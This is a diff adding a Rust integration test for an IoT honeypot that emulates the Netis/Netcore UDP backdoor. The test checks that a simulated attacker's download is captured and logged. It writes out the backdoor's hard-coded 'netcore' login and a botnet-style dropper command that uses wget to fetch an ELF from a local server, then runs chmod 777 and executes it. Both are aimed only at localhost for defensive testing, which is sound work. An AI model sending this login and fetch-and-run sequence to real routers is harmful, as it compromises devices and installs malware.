@@ -1,6 +1,7 @@
 //! The 53413/UDP Netis/Netcore backdoor, driven over real UDP sockets:
 //! probes, the hard-coded login, commands through the shared shell
-//! emulation, 18-byte scan payloads, and no amplification.
+//! emulation, 18-byte scan payloads, no amplification, and a download
+//! command whose sample really arrives.
 
 mod common;
 use common::*;
@@ -85,4 +86,79 @@ fn netis_backdoor_over_udp() {
         max_reply <= 0,
         "a reply was larger than 3x its datagram (or 16 bytes)"
     );
+}
+
+#[test]
+fn netis_wget_fetches_the_sample() {
+    let www = TempDir::new("netis-www");
+    let mut elf = iotpot_core::Arch::Mips.elf_header();
+    elf.resize(2000, 0x41);
+    std::fs::write(www.0.join("mips"), &elf).unwrap();
+    let web = free_port();
+    let _http = http_server(&www.0, web);
+    let port = {
+        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
+        s.local_addr().unwrap().port()
+    };
+    // A second router whose firmware answers the probe the other way.
+    let other = {
+        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
+        s.local_addr().unwrap().port()
+    };
+    let profile = www.0.join("status.toml");
+    std::fs::write(
+        &profile,
+        "name = \"netis-status\"\ndescription = \"test\"\ndevice_type = \"Router\"\narch = \"mipsel\"\n\
+         [netis]\nprobe_reply = \"status\"\n",
+    )
+    .unwrap();
+    let mut hp = Honeypot::start(
+        "netis-dl",
+        "router-netis",
+        &format!(
+            "[[listen]]\nservice = \"netis\"\naddress = \"127.0.0.1:{port}\"\n\n\
+             [[listen]]\nservice = \"netis\"\naddress = \"127.0.0.1:{other}\"\nprofile = {:?}\n\n\
+             [downloader]\nallow = [\"127.0.0.1/32\"]\n",
+            profile.display().to_string()
+        ),
+    );
+    let to: std::net::SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
+    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
+    sock.set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    // The router profile's other probe answer, and the scanners' empty probe.
+    let r = ask(&sock, to, &[0; 8]).unwrap();
+    assert!(r.ends_with(b"\xD0\xA5Login:"), "{r:?}");
+    let status: std::net::SocketAddr = format!("127.0.0.1:{other}").parse().unwrap();
+    let r = ask(&sock, status, &[0; 8]).unwrap();
+    assert!(
+        r.ends_with(b"\x00\x00\x00\x05\x00\x01\x00\x00\x00\x00\x01\x00\x00"),
+        "{r:?}"
+    );
+    let r = ask(&sock, to, b"").unwrap();
+    assert!(r.windows(6).any(|w| w == b"Login:"), "{r:?}");
+    // Any 8-byte header before the password (as vulnerability scanners send).
+    let r = ask(&sock, to, b"XXXXXXXXnetcore").unwrap();
+    assert!(r.windows(15).any(|w| w == b"Login successed"), "{r:?}");
+    let cmd = format!(
+        "AA\0\0AAAAcd /var/tmp; wget http://127.0.0.1:{web}/mips -O m; ls -l m; chmod 777 m; ./m netis\0"
+    );
+    let r = ask(&sock, to, cmd.as_bytes()).expect("an answer once the fetch is done");
+    let text = String::from_utf8_lossy(&r[8..]).into_owned();
+    assert!(text.contains("Connecting to 127.0.0.1"), "{text:?}");
+    hp.stop();
+
+    let db = hp.db();
+    let sha = {
+        use sha2::{Digest, Sha256};
+        hex::encode(Sha256::digest(&elf))
+    };
+    let got = column(&db, "SELECT json_extract(data, '$.shasum') FROM events WHERE eventid = 'iotpot.download.success' AND protocol = 'netis'");
+    assert_eq!(got, std::slice::from_ref(&sha));
+    let stored = std::fs::read(hp.data().join("samples").join(&sha)).unwrap();
+    assert_eq!(stored, elf);
+    let arch = column(&db, "SELECT arch FROM samples");
+    assert_eq!(arch, ["mips"]);
+    let exec = column(&db, "SELECT json_extract(data, '$.shasum') FROM events WHERE eventid = 'iotpot.file.executed' AND protocol = 'netis'");
+    assert_eq!(exec, [sha]);
 }
